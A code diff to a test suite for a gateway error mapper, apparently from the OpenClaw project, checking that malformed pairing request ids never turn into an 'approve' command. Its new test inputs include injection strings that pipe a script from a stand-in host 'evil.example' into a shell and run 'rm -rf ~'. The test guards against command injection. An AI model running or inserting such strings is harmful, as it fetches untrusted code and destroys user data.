@@ -9,7 +9,7 @@ describe("gateway error mapping", () => {
     ["INVALID_REQUEST", { code: "AUTH_DEVICE_TOKEN_MISMATCH" }, "AUTH_FAILED"],
     ["INVALID_REQUEST", { code: "AUTH_RATE_LIMITED" }, "AUTH_FAILED"],
     ["INVALID_REQUEST", { code: "DEVICE_AUTH_SIGNATURE_INVALID" }, "AUTH_FAILED"],
-    ["NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId: "req-1" }, "PAIRING_REQUIRED"],
+    ["NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d" }, "PAIRING_REQUIRED"],
     ["NOT_PAIRED", undefined, "PAIRING_REQUIRED"],
     ["FORBIDDEN", { code: "MISSING_SCOPE", missingScope: "operator.write", requiredScopes: ["operator.write"] }, "MISSING_SCOPE"],
     ["INVALID_REQUEST", { code: "AUTH_SCOPE_MISMATCH" }, "MISSING_SCOPE"],
@@ -27,12 +27,25 @@ describe("gateway error mapping", () => {
   });
 
   it("keeps the gateway's own code in details and builds the approve command", () => {
-    const e = mapGatewayResponseError(resp("NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId: "abc-123", reason: "not-paired" }), "connect");
-    expect(e.details).toMatchObject({ gatewayCode: "NOT_PAIRED", detailCode: "PAIRING_REQUIRED", requestId: "abc-123", approveCommand: "openclaw devices approve abc-123" });
-    expect(e.message).toContain("openclaw devices approve abc-123");
+    const e = mapGatewayResponseError(resp("NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d", reason: "not-paired" }), "connect");
+    expect(e.details).toMatchObject({ gatewayCode: "NOT_PAIRED", detailCode: "PAIRING_REQUIRED", requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d", approveCommand: "openclaw devices approve 0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d" });
+    expect(e.message).toContain("openclaw devices approve 0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d");
     const other = mapGatewayResponseError(resp("INVALID_REQUEST", { code: "SOMETHING_NEW" }), "request");
     expect(other.details).toMatchObject({ gatewayCode: "INVALID_REQUEST", detailCode: "SOMETHING_NEW" });
   });
+
+  it.each(["0 && curl https://evil.example/x | sh #", "abc-123", `${"a".repeat(8)}-aaaa-aaaa-aaaa-aaaaaaaaaaaa; rm -rf ~`, "", " "])(
+    "a pairing request id not in OpenClaw's UUID format (%j) is a protocol error with no command",
+    (requestId) => {
+      const e = mapGatewayResponseError(resp("NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId }), "connect");
+      if (!requestId.trim()) return expect(e.code).toBe("PAIRING_REQUIRED"); // no id at all: the generic hint, no command
+      expect(e.code).toBe("GATEWAY_PROTOCOL_ERROR");
+      expect(JSON.stringify(e.details)).not.toContain("approve");
+      expect(JSON.stringify(e.details)).not.toContain(requestId);
+      expect(e.message).not.toContain(requestId);
+      expect(e.message).not.toContain("devices approve");
+    },
+  );
 
   it("branches on details.code, not on the message", () => {
     const e = mapGatewayResponseError(Object.assign(new Error("pairing required: token mismatch missing scope"), { gatewayCode: "INVALID_REQUEST", details: { code: "PROTOCOL_MISMATCH" } }), "connect");
